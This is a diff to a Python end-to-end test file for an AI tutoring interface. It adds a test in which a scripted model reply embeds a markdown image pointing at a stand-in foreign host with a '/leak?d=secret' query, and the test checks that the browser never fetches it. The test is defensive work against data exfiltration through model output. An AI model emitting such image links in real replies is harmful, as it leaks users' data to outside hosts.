@@ -1,7 +1,8 @@
 """The classroom on a litellm model (a scripted OpenAI-compatible server on loopback): the
 learner stops a long answer and keeps what was written; a provider refusing the key is
 explained in words, not as the provider's error; a misbehaving model (an answer cut at its
-length limit, raw HTML, a quiz with a broken key) leaves nothing misleading on screen."""
+length limit, raw HTML, a quiz with a broken key) leaves nothing misleading on screen, and
+an image it points at another host is a link the browser never fetches."""
 
 from __future__ import annotations
 
@@ -16,10 +17,12 @@ from tests.agents.fake_openai import (
     FakeOpenAI,
     Stream,
     finish_chunk,
+    stream_text,
     stream_tool_calls,
     text_chunks,
 )
 from tests.e2e.conftest import Servers
+from tests.e2e.test_foreign_images import Elsewhere, watch
 
 pytestmark = pytest.mark.browser
 WORDS = [f"word{i} " for i in range(400)]
@@ -178,3 +181,19 @@ async def test_a_misbehaving_model_is_explained_and_its_html_stays_text(
     # The quiz with a key that is not one of its options was never asked.
     await expect(conversation).not_to_contain_text("Which is larger?")
     await expect(page.locator(".lh-question-item")).to_have_count(0)
+
+
+async def test_a_streamed_reply_with_a_foreign_image_fetches_nothing(
+    live: Servers, model: FakeOpenAI, page: Page
+):
+    with Elsewhere() as elsewhere:
+        reply = f"Look: ![t](http://{elsewhere.host}/leak?d=secret) and on."
+        model.script(stream_text(reply))
+        foreign = watch(page, live.ui_url)
+        await _new_session(page, live)
+        await page.locator("#composer").fill("Show me a picture")
+        await page.locator("#composer").press("Enter")
+        link = page.locator("#conversation .lh-foreign-image")
+        await expect(link).to_have_text(f"t (image from {elsewhere.host})")
+        await expect(page.locator("#send")).to_be_visible()
+        assert foreign == [] and elsewhere.paths == []
